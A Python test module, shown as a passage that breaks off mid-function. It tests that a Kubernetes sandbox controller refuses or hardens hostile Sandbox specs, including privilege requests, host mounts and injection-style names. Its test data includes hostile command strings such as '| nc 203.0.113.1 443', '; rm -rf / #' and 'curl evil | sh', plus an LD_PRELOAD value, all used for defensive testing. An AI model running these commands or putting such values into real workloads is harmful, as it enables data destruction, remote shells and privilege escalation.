# SPDX-License-Identifier: Apache-2.0
"""Security end to end: hostile input against kage-controller (running under
its own ServiceAccount, conftest's `kage`) on a real API server, in
namespaces that enforce Pod Security "restricted".

1. A table of hostile Sandbox specs. Each is refused at admission, with the
   exact field and message, or reconciled into a pod that is still
   hardened: non-root, not privileged, no privilege escalation, every
   capability dropped, seccomp RuntimeDefault, no host namespace, port or
   volume, no service-account token, no service links, runtime class
   kata-fc, kage's two labels and one annotation and nothing else. Every
   such pod is also admitted by Pod Security "restricted" (asked again of
   the API server, beside the Sandbox's status).
2. Hostile objects kage watches (a NUL character in a Sandbox, in a pod or
   policy labelled as kage's) must not stop it reconciling other
   tenants' sandboxes; a Sandbox named like the baseline policy cannot
   replace it.
3. The live NetworkPolicies of several sandboxes, with and without a
   SandboxClass that denies ranges, pass tests/security/check_policies.py,
   also after the class changes.
4. The controller's own token cannot read secrets, exec into pods or
   escalate (the full can-i list is in test_install.py).

SandboxClasses made here have unique names, are never the default class,
and are deleted by the fixture that made them, even when a test fails.
"""

import concurrent.futures
import copy
import json
import re
import subprocess
import sys
import uuid

import pytest

from conftest import REPO, Kubectl, deployment_memory_limit, peak_rss, wait_for
from expected import (API_VERSION, BASELINE_SPEC, BEFORE_SCRIPT_WRAPPER, DNS_RULE,
                      HARDENED_CONTAINER, NODE, RESTRICTED, SERVER_SET, gate_container)
from sandboxes import condition, get, wait_reason

sys.path.insert(0, str(REPO / "tests" / "security"))
import check_policies  # noqa: E402

IMAGE = "busybox:1.36"
SA = "system:serviceaccount:kage-system:kage-controller"
DEFAULT_ANNOTATION = "sandboxclass.kage.dev/is-default-class"
RUN = uuid.uuid4().hex[:8]
RUN_LABEL = "e2e.kage.dev/run"
CONVERGE = 15  # seconds a change may take to show

# Printed by the API server after blocking errors: CEL rules are skipped.
NOT_CHECKED = (
    "<nil>: Invalid value: null: some validation rules were not checked because the "
    "object was invalid; correct the existing errors to complete validation"
)
RFC1123 = (
    "a lowercase RFC 1123 subdomain must consist of lower case alphanumeric characters, "
    "'-' or '.', and must start and end with an alphanumeric character (e.g. 'example.com', "
    "regex used for validation is '[a-z0-9]([-a-z0-9]*[a-z0-9])?(\\.[a-z0-9]([-a-z0-9]*"
    "[a-z0-9])?)*')"
)
ROOT_MESSAGE = "must not be 0 (root); sandboxes never run as root"
C_IDENTIFIER = "must be a C identifier: letters, digits and '_', not starting with a digit"
WHITESPACE = "must not contain whitespace"

# Every key a sandbox pod's spec and container may have. Anything else
# (volumes, hostNetwork/hostPID/hostIPC/hostUsers, ephemeralContainers, nodeSelector, shareProcessNamespace, ports,
# volumeMounts, lifecycle...) fails the comparison; a false host* field is
# left out by the API server.
POD_SPEC_KEYS = {"containers", "initContainers", "runtimeClassName", "restartPolicy",
                 "terminationGracePeriodSeconds", "automountServiceAccountToken",
                 "enableServiceLinks", "securityContext"} | set(SERVER_SET)
CONTAINER_KEYS = {"name", "image", "imagePullPolicy", "command", "args", "env", "workingDir",
                  "resources", "securityContext", "terminationMessagePath",
                  "terminationMessagePolicy", "readinessProbe"}


# ---- helpers ---------------------------------------------------------------


def sandbox(ns, name, metadata=None, **spec):
    spec.setdefault("image", IMAGE)
    md = {"name": name, "namespace": ns, **(metadata or {})}
    return {"apiVersion": API_VERSION, "kind": "Sandbox", "metadata": md, "spec": spec}


def wait_ready(kubectl, ns, name, timeout=30):
    proc = kubectl.run("-n", ns, "wait", "--for=condition=Ready", f"sandbox/{name}",
                       f"--timeout={timeout}s", check=False)
    sbx = get(kubectl, ns, "sandbox", name)
    assert proc.returncode == 0, f"{ns}/{name} not Ready: {(sbx or {}).get('status')}"
    return sbx


def go_quote(s):
    """s as Go's %q prints it (the API server's "Invalid value")."""
    escapes = {"\a": "\\a", "\b": "\\b", "\f": "\\f", "\n": "\\n", "\r": "\\r", "\t": "\\t",
               "\v": "\\v", "\\": "\\\\", '"': '\\"'}
    out = []
    for ch in s:
        if ch in escapes:
            out.append(escapes[ch])
        elif ch == " " or ch.isprintable():
            out.append(ch)
        elif ord(ch) < 0x80:
            out.append(f"\\x{ord(ch):02x}")
        else:
            out.append(f"\\u{ord(ch):04x}")
    return '"' + "".join(out) + '"'


def field_errors(stderr, name):
    """The field errors of a 422 Invalid answer, one string each."""
    head = f"The Sandbox {go_quote(name)} is invalid: "
    assert head in stderr, stderr
    rest = stderr.split(head, 1)[1]
    if rest.startswith("\n"):
        return [line[2:] for line in rest.splitlines() if line.startswith("* ")]
    return [rest.strip()]


def owner_refs(sbx):
    return [{"apiVersion": API_VERSION, "kind": "Sandbox", "name": sbx["metadata"]["name"],
             "uid": sbx["metadata"]["uid"], "controller": True}]


def assert_hardened(pod, sbx, uid=65532, gid=65532):
    """The pod kage made of a Sandbox is hardened, whatever the Sandbox said."""
    name = sbx["metadata"]["name"]
    spec = pod["spec"]
    assert set(spec) - POD_SPEC_KEYS == set(), f"unexpected pod fields {set(spec) - POD_SPEC_KEYS}"
    for key, value in SERVER_SET.items():
        assert spec.get(key) == value, (key, spec.get(key))
    assert spec["runtimeClassName"] == "kata-fc"
    assert spec["restartPolicy"] == "Never"
    assert spec["automountServiceAccountToken"] is False
    assert spec["enableServiceLinks"] is False
    assert uid >= 1 and gid >= 1
    assert spec["securityContext"] == {"runAsNonRoot": True, "runAsUser": uid,
                                       "runAsGroup": gid,
                                       "seccompProfile": {"type": "RuntimeDefault"},
                                       "supplementalGroupsPolicy": "Strict"}
    assert len(spec["containers"]) == 1
    c = spec["containers"][0]
    assert set(c) - CONTAINER_KEYS == set(), \
        f"unexpected container fields {set(c) - CONTAINER_KEYS}"
    assert c["name"] == "sandbox"
    assert c["securityContext"] == HARDENED_CONTAINER
    # The only init container is the policy gate, hardened alike.
    assert spec["initContainers"] == [gate_container(c["resources"])]
    md = pod["metadata"]
    assert md["labels"] == {"kage.dev/sandbox": name, "app.kubernetes.io/managed-by": "kage"}
    assert list(md["annotations"]) == ["kage.dev/spec-hash"]
    assert re.fullmatch(r"[0-9a-f]{16}", md["annotations"]["kage.dev/spec-hash"])
    assert md["ownerReferences"] == owner_refs(sbx)
    return c


def server_minor(cluster_env):
    """v1.35 of v1.35.4: a Pod Security version the API server knows."""
    return ".".join(cluster_env["K8S_VERSION"].split(".")[:2])


def restricted_violations(kubectl, cluster_env, ns):
    """What Pod Security "restricted" says of the namespace's pods now: a
    server-side dry run of re-labelling the namespace to a pinned version
    evaluates every existing pod and warns about each that would be
    refused. The empty string when every pod passes."""
    proc = kubectl.run("label", "--dry-run=server", "--overwrite", "namespace", ns,
                       "pod-security.kubernetes.io/enforce=restricted",
                       f"pod-security.kubernetes.io/enforce-version={server_minor(cluster_env)}")
    return proc.stderr.strip()


def assert_admitted_under_restricted(kubectl, cluster_env, ns, *sandboxes):
    labels = kubectl.json("get", "namespace", ns)["metadata"]["labels"]
    assert labels["pod-security.kubernetes.io/enforce"] == "restricted"
    assert restricted_violations(kubectl, cluster_env, ns) == ""
    for sbx in sandboxes:
        for c in sbx["status"]["conditions"]:
            assert c["reason"] != "Forbidden" and "PodSecurity" not in c["message"], c


def live_findings(kubectl, namespaces, class_names=()):
    """check_policies over the live objects of the namespaces."""
    policies, sandboxes, pods = [], [], []
    for ns in namespaces:
        policies += kubectl.json("-n", ns, "get", "networkpolicies")["items"]
        sandboxes += kubectl.json("-n", ns, "get", "sandboxes")["items"]
        pods += kubectl.json("-n", ns, "get", "pods", "-l", "kage.dev/sandbox")["items"]
    classes = [kubectl.json("get", "sandboxclass", c) for c in class_names]
    return check_policies.check(policies, sandboxes, classes, pods), \
        (policies, sandboxes, classes, pods)


def alive(kage):
    return kage.proc is not None and kage.proc.poll() is None


def default_classes(kubectl):
    return sorted(c["metadata"]["name"] for c in kubectl.json("get", "sandboxclasses")["items"]
                  if c["metadata"].get("annotations", {}).get(DEFAULT_ANNOTATION) == "true")


# ---- fixtures ----------------------------------------------------------------


@pytest.fixture(scope="module", autouse=True)
def no_default_class(kubectl, kage):
    """A default class would shape the class-less sandboxes here; none may
    be around, before or after, and this run's classes all go."""
    assert default_classes(kubectl) == [], "a default SandboxClass is left from elsewhere"
    yield
    kubectl.run("delete", "sandboxclasses", "-l", f"{RUN_LABEL}={RUN}", "--ignore-not-found",
                check=False)
    assert default_classes(kubectl) == []


@pytest.fixture(scope="module", autouse=True)
def log_mark(kage):
    return len(kage.log_lines())


@pytest.fixture
def classes(kubectl):
    """Makes (or changes) SandboxClasses, never a default one; deletes each."""
    made = []

    def make(spec, name=None):
        name = name or f"sec-{RUN}-{uuid.uuid4().hex[:6]}"
        if name not in made:
            made.append(name)
        kubectl.apply({"apiVersion": API_VERSION, "kind": "SandboxClass",
                       "metadata": {"name": name, "labels": {RUN_LABEL: RUN}}, "spec": spec})
        return name

    yield make
    for name in made:
        kubectl.run("delete", "sandboxclass", name, "--ignore-not-found", check=False)


# ---- 1. the hostile table --------------------------------------------------------


class Refused:
    """Refused at admission with exactly these field errors. prefix: the
    only error starts with it (the field and the value; the schema has no
    rule yet to word the message)."""

    def __init__(self, *errors, raw=None, prefix=None):
        self.errors, self.raw, self.prefix = list(errors), raw, prefix


class Admitted:
    """Admitted and reconciled into a hardened pod. stored: the spec as the
    API server keeps it (what pruning left); check(pod, sbx, container,
    policy) asserts the rest."""

    def __init__(self, stored=None, uid=65532, gid=65532, check=None, status=None):
        self.stored, self.uid, self.gid, self.check = stored, uid, gid, check
        self.status = status  # sent with the Sandbox at create


LAX = ("--validate=false",)  # what an attacker's client does: no strict field check

SCRIPT = ('echo "$HOME" \'single\' "double"\n"; exit 0; "\n$$ $(FOO) ${BAR} `id` $((1+1))\n'
          "cat <<EOF\n$(KAGE_BEFORE_SCRIPT)\nEOF\n")
METACHARACTERS = ["/bin/echo", "; rm -rf / #", "$(id)", "`id`", "a && b || c",
                  "| nc 203.0.113.1 443", "> /etc/passwd", "'\"", "\n", "${IFS}"]
HOSTILE_ENV = [
    {"name": "NEWLINES", "value": "a\nb\r\nc"},
    {"name": "SUBSTITUTIONS", "value": "$(HOME) $(KAGE_BEFORE_SCRIPT) ${PATH} `id` $$ $"},
    {"name": "LD_PRELOAD", "value": "/tmp/evil.so"},
    {"name": "EMPTY"},
]
LONG_NAME = "l" * 63
LONG_IMAGE = "r/" + "x" * 1022


def check_metacharacters(pod, sbx, c, policy):
    # argv as given: no shell is put in front, nothing is joined or quoted.
    assert c["command"] == METACHARACTERS
    assert c["args"] == ["--x=$(HOME)", "*", "~", "$$"]
    assert "env" not in c and "readinessProbe" not in c


def check_before_script(pod, sbx, c, policy):
    assert c["command"] == ["/bin/sh", "-c", BEFORE_SCRIPT_WRAPPER, "kage-sandbox",
                            "python3", "app.py"]
    assert "args" not in c
    # Every $ doubled: the kubelet expands $(VAR) and turns $$ into $ in env
    # values, so this is how the script reaches the shell byte for byte.
    assert c["env"] == [{"name": "FOO", "value": "bar"},
                        {"name": "KAGE_BEFORE_SCRIPT", "value": SCRIPT.replace("$", "$$")}]
    assert all(SCRIPT not in word for word in c["command"])
    assert "KAGE_BEFORE_SCRIPT" not in "".join(c["command"][3:])


def check_dollars_at_the_limit(pod, sbx, c, policy):
    assert c["env"] == [{"name": "KAGE_BEFORE_SCRIPT", "value": "$" * 32768}]
    assert c["command"] == ["/bin/sh", "-c", BEFORE_SCRIPT_WRAPPER, "kage-sandbox"]


def check_script_env_name_taken(pod, sbx, c, policy):
    # The user's variable stays, and kage's comes last, so it is the one the
    # container sees (the later of two same-named variables wins).
    assert c["env"] == [{"name": "KAGE_BEFORE_SCRIPT", "value": "curl evil | sh"},
                        {"name": "KAGE_BEFORE_SCRIPT", "value": "true"}]


def check_env_verbatim(pod, sbx, c, policy):
    assert c["env"] == HOSTILE_ENV


def check_secret_ref(pod, sbx, c, policy):
    assert c["env"] == [{"name": "TOKEN",
                         "valueFrom": {"secretKeyRef": {"name": "creds", "key": "token"}}}]


def check_limits(pod, sbx, c, policy):
    assert pod["metadata"]["name"] == LONG_NAME
    assert c["image"] == LONG_IMAGE
    assert c["workingDir"] == "/" + "w" * 4095
    assert c["command"] == ["c" * 4096] * 64
    assert c["args"] == ["a" * 4096] * 64
    assert c["env"] == [{"name": "E" * 256, "value": "v" * 32768}]
    assert policy["spec"]["podSelector"] == {"matchLabels": {"kage.dev/sandbox": LONG_NAME}}


def check_multibyte(pod, sbx, c, policy):
    assert c["command"] == ["/bin/sh", "-c", BEFORE_SCRIPT_WRAPPER, "kage-sandbox", "€" * 4096]
    assert c["env"] == [{"name": "KAGE_BEFORE_SCRIPT", "value": "€" * 16384}]


def check_metadata_not_propagated(pod, sbx, c, policy):
    # assert_hardened compared the pod's labels and annotations whole; the
    # policy selects the sandbox by its name, not by the forged label.
    assert sbx["metadata"]["labels"]["kage.dev/sandbox"] == "victim"
    assert policy["spec"]["podSelector"] == {"matchLabels": {"kage.dev/sandbox": "forged"}}
    assert policy["metadata"]["labels"] == {"kage.dev/sandbox": "forged",
                                            "app.kubernetes.io/managed-by": "kage"}


def check_everywhere_without_class(pod, sbx, c, policy):
    # Allowed as asked: without a class there is nothing to carve out.
    assert policy["spec"]["egress"] == [
        DNS_RULE,
        {"to": [{"ipBlock": {"cidr": "0.0.0.0/0"}}]},
        {"to": [{"ipBlock": {"cidr": "::/0"}}]},
    ]


def check_canonical_egress(pod, sbx, c, policy):
    assert policy["spec"]["egress"] == [
        {"to": [{"ipBlock": {"cidr": "203.0.113.0/24", "except": ["203.0.113.77/32"]}}],
         "ports": [{"protocol": "SCTP", "port": 1, "endPort": 65535}]},
    ]


def check_status_not_injected(pod, sbx, c, policy):
    assert sbx["status"]["podIP"] == pod["status"]["podIP"] != "203.0.113.1"
    assert sbx["status"]["nodeName"] == NODE


HOSTILE = [
    # -- identity: never root, never out of range
    ("run-as-root", "hostile", {"securityContext": {"runAsUser": 0}}, {}, (),
     Refused(f"spec.securityContext.runAsUser: Invalid value: 0: {ROOT_MESSAGE}")),
    ("run-as-group-root", "hostile", {"securityContext": {"runAsUser": 1000, "runAsGroup": 0}},
     {}, (), Refused(f"spec.securityContext.runAsGroup: Invalid value: 0: {ROOT_MESSAGE}")),
    ("run-as-minus-one", "hostile", {"securityContext": {"runAsUser": -1}}, {}, (),
     Refused("spec.securityContext.runAsUser: Invalid value: -1: "
             "spec.securityContext.runAsUser in body should be greater than or equal to 0")),
    ("run-as-int64-max", "hostile", {"securityContext": {"runAsUser": 2**63 - 1}}, {}, (),
     Refused("spec.securityContext.runAsUser: Invalid value: 9223372036854775807: "
             "spec.securityContext.runAsUser in body should be less than or equal to "
             "2147483647")),
    ("run-as-beyond-int64", "hostile", {"securityContext": {"runAsUser": 10**20}}, {}, (),
     Refused('spec.securityContext.runAsUser: Invalid value: "number": '
             'spec.securityContext.runAsUser in body must be of type integer: "number"',
             "spec.securityContext.runAsUser: Invalid value: 1e+20: "
             "spec.securityContext.runAsUser in body should be less than or equal to "
             "2.147483647e+09", NOT_CHECKED)),
    ("run-as-string-zero", "hostile", {"securityContext": {"runAsUser": "0"}}, {}, (),
     Refused('spec.securityContext.runAsUser: Invalid value: "string": '
             'spec.securityContext.runAsUser in body must be of type integer: "string"',
             NOT_CHECKED)),
    ("run-as-largest-ids", "hostile",
     {"securityContext": {"runAsUser": 2147483647, "runAsGroup": 2147483647}}, {}, (),
     Admitted(uid=2147483647, gid=2147483647)),
    ("run-as-one", "hostile", {"securityContext": {"runAsUser": 1, "runAsGroup": 1}}, {}, (),
     Admitted(uid=1, gid=1)),
    # -- privilege asked for through fields the schema does not have
    ("security-context-escalation-pruned", "hostile", {"securityContext": {
        "runAsUser": 1000, "runAsGroup": 1000, "runAsNonRoot": False, "privileged": True,
        "allowPrivilegeEscalation": True, "capabilities": {"add": ["SYS_ADMIN", "NET_RAW"]},
        "seccompProfile": {"type": "Unconfined"}, "seLinuxOptions": {"type": "spc_t"},
        "procMount": "Unmasked", "sysctls": [{"name": "kernel.msgmax", "value": "1"}]}},
     {}, LAX,
     Admitted(stored={"image": IMAGE, "paused": False,
                      "securityContext": {"runAsUser": 1000, "runAsGroup": 1000}},
              uid=1000, gid=1000)),
    ("pod-fields-pruned", "hostile", {
        "hostNetwork": True, "hostPID": True, "hostIPC": True, "hostUsers": True,
        "shareProcessNamespace": True,
        "volumes": [{"name": "root", "hostPath": {"path": "/"}}],
        "volumeMounts": [{"name": "root", "mountPath": "/host"}],
        "serviceAccountName": "kage-controller", "automountServiceAccountToken": True,
        "nodeName": "control-plane", "nodeSelector": {"node-role.kubernetes.io/control-plane": ""},
        "runtimeClassName": "runc", "priorityClassName": "system-node-critical",
        "tolerations": [{"operator": "Exists"}], "dnsPolicy": "None",
        "initContainers": [{"name": "i", "image": "busybox", "securityContext": {
            "privileged": True}}],
        "containers": [{"name": "x", "image": "busybox"}],
        "ports": [{"containerPort": 22, "hostPort": 22}],
        "labels": {"kage.dev/sandbox": "other"}, "podLabels": {"team": "x"},
        "annotations": {"container.apparmor.security.beta.kubernetes.io/sandbox": "unconfined"},
    }, {}, LAX, Admitted(stored={"image": IMAGE, "paused": False})),
    ("unknown-fields-strict", "hostile", {"hostNetwork": True, "hostPID": True,
                                          "volumes": [{"name": "root", "hostPath": {"path": "/"}}]},
     {}, (),
     Refused(raw='Error from server (BadRequest): error when creating "STDIN": Sandbox in '
                 'version "v1alpha1" cannot be handled as a Sandbox: strict decoding error: '
                 'unknown field "spec.hostNetwork", unknown field "spec.hostPID", '
                 'unknown field "spec.volumes"')),
    ("sandbox-metadata-not-propagated", "forged", {}, {
        "labels": {"kage.dev/sandbox": "victim", "app.kubernetes.io/managed-by": "helm",
                   "team": "x"},
        "annotations": {"kage.dev/spec-hash": "0" * 16,
                        "container.apparmor.security.beta.kubernetes.io/sandbox": "unconfined",
                        "io.katacontainers.config.hypervisor.enable_debug": "true"}},
     (), Admitted(check=check_metadata_not_propagated)),
    ("status-injected-at-create", "hostile", {}, {}, (),
     Admitted(check=check_status_not_injected, status={
         "phase": "Running", "podIP": "203.0.113.1", "conditions": [
             {"type": "Ready", "status": "True", "reason": "SandboxReady", "message": "forged",
              "lastTransitionTime": "2026-01-01T00:00:00Z"}]})),
    # -- names: a label value and a pod name; no injection
    ("name-label-injection", "a,b=c", {}, {}, (),
     Refused(f'metadata.name: Invalid value: "a,b=c": {RFC1123}')),
    ("name-newline", "a\nb", {}, {}, (),
     Refused(f'metadata.name: Invalid value: "a\\nb": {RFC1123}')),
    ("name-64-characters", "n" * 64, {}, {}, (),
     Refused("metadata.name: Invalid value: metadata.name must be at most 63 characters "
             "(it becomes a pod name and a label value)")),
    # -- the image: one word
    ("image-with-space", "hostile", {"image": "busybox:1.36 --privileged"}, {}, (),
     Refused(f'spec.image: Invalid value: "busybox:1.36 --privileged": {WHITESPACE}')),
    ("image-with-newline", "hostile", {"image": "busybox:1.36\nprivileged: true"}, {}, (),
     Refused(f'spec.image: Invalid value: "busybox:1.36\\nprivileged: true": {WHITESPACE}')),
    # RE2's \s (the CRD's rule) is [\t\n\f\r ]: it misses \v and Unicode spaces.
    ("image-with-vertical-tab", "hostile", {"image": "busybox:1.36\v--privileged"}, {}, (),
     Refused('spec.image: Invalid value: "busybox:1.36\\v--privileged": '
             "must be printable ASCII (an image reference)")),
    ("image-with-no-break-space", "hostile", {"image": "busybox:1.36\u00a0--privileged"}, {}, (),
     Refused('spec.image: Invalid value: "busybox:1.36\\u00a0--privileged": '
             "must be printable ASCII (an image reference)")),
    # -- the working directory: an absolute path, one line
    ("working-dir-relative", "hostile", {"workingDir": "../../etc"}, {}, (),
     Refused('spec.workingDir: Invalid value: "../../etc": '
             "must be an absolute path (start with /)")),
    ("working-dir-newline", "hostile", {"workingDir": "/tmp\n/etc"}, {}, (),
     Refused(prefix='spec.workingDir: Invalid value: "/tmp\\n/etc": ')),
    # -- the environment
    ("env-name-newline", "hostile", {"env": [{"name": "A\nB", "value": "x"}]}, {}, (),
     Refused(f'spec.env[0].name: Invalid value: "A\\nB": {C_IDENTIFIER}')),
    ("env-name-substitution", "hostile", {"env": [{"name": "$(HOME)", "value": "x"}]}, {}, (),
     Refused(f'spec.env[0].name: Invalid value: "$(HOME)": {C_IDENTIFIER}')),
    ("env-values-verbatim", "hostile", {"env": HOSTILE_ENV}, {}, (),
     Admitted(check=check_env_verbatim)),
    ("env-value-from-field-ref", "hostile",
     {"env": [{"name": "A", "valueFrom": {"fieldRef": {"fieldPath": "metadata.annotations"}}}]},
     {}, LAX,
     Refused("spec.env[0].valueFrom: Invalid value: "
             "exactly one of secretKeyRef and configMapKeyRef must be set")),
    ("env-secret-ref-namespace-pruned", "hostile",
     {"env": [{"name": "TOKEN", "valueFrom": {"secretKeyRef": {
         "name": "creds", "key": "token", "namespace": "kube-system", "optional": True}}}]},
     {}, LAX,
     Admitted(stored={"image": IMAGE, "paused": False, "env": [
         {"name": "TOKEN", "valueFrom": {"secretKeyRef": {"name": "creds", "key": "token"}}}]},
         check=check_secret_ref)),
    # The pod API refuses a key starting with "..", and so does the
    # controller's validator; the schema lets it through.
    ("env-secret-key-dot-dot", "hostile",
     {"env": [{"name": "A", "valueFrom": {"secretKeyRef": {"name": "creds", "key": "..data"}}}]},
     {}, (), Refused(prefix='spec.env[0].valueFrom.secretKeyRef.key: Invalid value: "..data": ')),
    # -- command and beforeScript: argv stays argv, the script stays data
    ("command-shell-metacharacters", "hostile",
     {"command": METACHARACTERS, "args": ["--x=$(HOME)", "*", "~", "$$"]}, {}, (),
     Admitted(check=check_metacharacters)),
    ("before-script-hostile", "hostile",
     {"beforeScript": SCRIPT, "command": ["python3", "app.py"],
      "env": [{"name": "FOO", "value": "bar"}]}, {}, (),
     Admitted(check=check_before_script)),
    ("before-script-dollars-at-the-limit", "hostile", {"beforeScript": "$" * 16384}, {}, (),
     Admitted(check=check_dollars_at_the_limit)),
    ("before-script-env-name-taken", "hostile",
     {"beforeScript": "true", "env": [{"name": "KAGE_BEFORE_SCRIPT", "value": "curl evil | sh"}]},
     {}, (), Admitted(check=check_script_env_name_taken)),
    # -- sizes: at the limits admitted whole, one past refused
    ("strings-at-the-limits", LONG_NAME, {
        "image": LONG_IMAGE, "workingDir": "/" + "w" * 4095,
        "command": ["c" * 4096] * 64, "args": ["a" * 4096] * 64,
        "env": [{"name": "E" * 256, "value": "v" * 32768}]}, {}, (),
     Admitted(check=check_limits)),
    ("multibyte-at-the-limits", "hostile",
     {"command": ["€" * 4096], "beforeScript": "€" * 16384}, {}, (),
     Admitted(check=check_multibyte)),
    ("command-item-too-long", "hostile", {"command": ["c" * 4097]}, {}, (),
     Refused("spec.command[0]: Too long: may not be more than 4096 bytes", NOT_CHECKED)),
    ("command-too-many-items", "hostile", {"command": ["c"] * 65}, {}, (),
     Refused("spec.command: Too many: 65: must have at most 64 items", NOT_CHECKED)),
    ("before-script-too-long", "hostile", {"beforeScript": "$" * 16385}, {}, (),
     Refused("spec.beforeScript: Too long: may not be more than 16384 bytes", NOT_CHECKED)),
    ("env-value-too-long", "hostile", {"env": [{"name": "A", "value": "v" * 32769}]}, {}, (),
     Refused("spec.env[0].value: Too long: may not be more than 32768 bytes", NOT_CHECKED)),
    ("working-dir-too-long", "hostile", {"workingDir": "/" + "w" * 4096}, {}, (),
     Refused("spec.workingDir: Too long: may not be more than 4096 bytes", NOT_CHECKED)),
    # -- egress
    ("egress-everywhere-without-class", "hostile",
     {"egress": {"allow": [{"cidr": "0.0.0.0/0"}, {"cidr": "::/0"}]}}, {}, (),
     Admitted(check=check_everywhere_without_class)),
    ("egress-host-bits-and-every-port", "hostile", {"egress": {"dns": False, "allow": [
        {"cidr": "203.0.113.77/24", "except": ["203.0.113.77/32"],
         "ports": [{"port": 1, "endPort": 65535, "protocol": "SCTP"}]}]}}, {}, (),
     Admitted(check=check_canonical_egress)),
    ("except-outside-cidr", "hostile",
     {"egress": {"allow": [{"cidr": "203.0.113.0/24", "except": ["10.0.0.0/8"]}]}}, {}, (),
     Refused("spec.egress.allow[0].except: Invalid value: "
             "except entry 10.0.0.0/8 is not strictly inside cidr 203.0.113.0/24")),
    ("except-wider-than-cidr", "hostile",
     {"egress": {"allow": [{"cidr": "10.0.0.0/8", "except": ["0.0.0.0/0"]}]}}, {}, (),
     Refused("spec.egress.allow[0].except: Invalid value: "
             "except entry 0.0.0.0/0 is not strictly inside cidr 10.0.0.0/8")),
]


@pytest.mark.parametrize("name,spec,metadata,args,outcome",
                         [pytest.param(*case[1:], id=case[0]) for case in HOSTILE])
def test_hostile_sandbox(kubectl, kage, cluster_env, make_namespace, name, spec, metadata,
                         args, outcome):
    ns = make_namespace("sec", RESTRICTED)
    manifest = sandbox(ns, name, metadata, **copy.deepcopy(spec))
    if isinstance(outcome, Admitted) and outcome.status:
        manifest["status"] = outcome.status
    proc = kubectl.create(manifest, *args, check=False)

    if isinstance(outcome, Refused):
        assert proc.returncode != 0, f"admitted: {get(kubectl, ns, 'sandbox', name)}"
        if outcome.raw is not None:
            assert proc.stderr.strip() == outcome.raw
        elif outcome.prefix is not None:
            errors = field_errors(proc.stderr, name)
            assert len(errors) == 1 and errors[0].startswith(outcome.prefix), errors
        else:
            assert field_errors(proc.stderr, name) == outcome.errors
        if "\n" not in name and "," not in name and len(name) <= 63:
            assert get(kubectl, ns, "sandbox", name) is None
        assert alive(kage)
        return

    assert proc.returncode == 0, proc.stderr
    sbx = wait_ready(kubectl, ns, name)
    if outcome.stored is not None:
        assert sbx["spec"] == outcome.stored
    pod = kubectl.json("-n", ns, "get", "pod", name)
    container = assert_hardened(pod, sbx, outcome.uid, outcome.gid)
    policy = kubectl.json("-n", ns, "get", "networkpolicy", name)
    if outcome.check:
        outcome.check(pod, sbx, container, policy)
    assert_admitted_under_restricted(kubectl, cluster_env, ns, sbx)
    findings, _ = live_findings(kubectl, [ns])
    assert findings == []
    assert alive(kage)


def test_the_pod_security_probe_sees_a_pod_restricted_would_refuse(kubectl, kage, cluster_env,
                                                                    make_namespace):
    """The probe assert_admitted_under_restricted relies on is not blind: a
    pod that "baseline" admits and "restricted" would not is reported."""
    ns = make_namespace("sec", {"pod-security.kubernetes.io/enforce": "baseline"})
    kubectl.create({"apiVersion": "v1", "kind": "Pod", "metadata": {"name": "lax", "namespace": ns},
                    "spec": {"containers": [{"name": "c", "image": IMAGE}]}})
    minor = server_minor(cluster_env)
    assert restricted_violations(kubectl, cluster_env, ns).splitlines() == [
        f'Warning: existing pods in namespace "{ns}" violate the new PodSecurity enforce level '
        f'"restricted:{minor}"',
        "Warning: lax: allowPrivilegeEscalation != false, unrestricted capabilities, "
        "runAsNonRoot != true, seccompProfile",
    ]


def test_every_kind_of_sandbox_pod_is_admitted_under_restricted(kubectl, kage, cluster_env,
                                                                 make_namespace):
    """Idle, with a command, with a beforeScript, with the largest ids: all
    in one namespace that enforces restricted, all admitted."""
    ns = make_namespace("sec", RESTRICTED)
    specs = {
        "idle": {},
        "command": {"command": ["python3", "-m", "http.server"], "args": ["8000"],
                    "workingDir": "/srv"},
        "prepared": {"beforeScript": "pip install requests", "command": ["python3"]},
        "high-ids": {"securityContext": {"runAsUser": 2147483647, "runAsGroup": 2147483647}},
        "with-secret": {"env": [{"name": "T", "valueFrom": {
            "secretKeyRef": {"name": "creds", "key": "token"}}}]},
    }
    for name, spec in specs.items():
        kubectl.create(sandbox(ns, name, **spec))
    ready = [wait_ready(kubectl, ns, name) for name in specs]
    pods = kubectl.json("-n", ns, "get", "pods")["items"]
    assert sorted(p["metadata"]["name"] for p in pods) == sorted(specs)
    assert_admitted_under_restricted(kubectl, cluster_env, ns, *ready)
    events = kubectl.json("-n", ns, "get", "events")["items"]
    assert [e for e in events if "PodSecurity" in e.get("message", "") or
            "PodSecurity" in e.get("note", "")] == []


# ---- 2. hostile objects in kage's watches ------------------------------------------


def restart_clean(kage):
    """Leaves the controller healthy for the tests that follow, once the
    poisoned object is gone: a controller stuck on it would replay its
    watch events from its last resourceVersion until the API server
    compacts them away (minutes). It must have stayed up, and stop cleanly."""
    assert alive(kage), "the controller died"
    assert kage.stop() == 0
    kage.start()
    kage.wait_synced()


def test_a_nul_character_in_a_sandbox_does_not_stop_other_tenants_sandboxes(
        kubectl, kage, make_namespace):
    """A tenant's Sandbox with a NUL character in a string (JSON \\u0000,
    which the schema admits) must be refused or reported as invalid; it must
    never stop kage reconciling anybody else's sandboxes."""
    evil_ns = make_namespace("sec", RESTRICTED)
    other_ns = make_namespace("sec", RESTRICTED)
    proc = kubectl.create(sandbox(evil_ns, "nul", command=["sh", "-c", "echo a\u0000b"]),
                          check=False)
    try:
        kubectl.create(sandbox(other_ns, "bystander"))
        bystander = wait_ready(kubectl, other_ns, "bystander", timeout=20)
        assert bystander["status"]["phase"] == "Running"
        if proc.returncode != 0:
            errors = field_errors(proc.stderr, "nul")
            assert len(errors) == 1 and errors[0].startswith("spec.command[2]: "), errors
        else:
            sbx = wait_reason(kubectl, evil_ns, "nul", "InvalidSpec")
            assert condition(sbx, "Ready")["message"] == \
                "spec.command[2]: must not contain NUL characters"
            assert get(kubectl, evil_ns, "pod", "nul") is None
    finally:
        kubectl.run("-n", evil_ns, "delete", "sandbox", "nul", "--ignore-not-found", check=False)
        restart_clean(kage)


def restricted_pod(ns, name, labels, annotations):
    return {"apiVersion": "v1", "kind": "Pod",
            "metadata": {"name": name, "namespace": ns, "labels": labels,
                         "annotations": annotations},
            "spec": {"securityContext": {"runAsNonRoot": True, "runAsUser": 1000,
                                         "seccompProfile": {"type": "RuntimeDefault"}},
                     "containers": [{"name": "c", "image": IMAGE, "command": ["sleep", "1d"],
                                     "securityContext": {"allowPrivilegeEscalation": False,
                                                         "capabilities": {"drop": ["ALL"]}}}]}}


def decoy_policy(ns, name, labels, annotations):
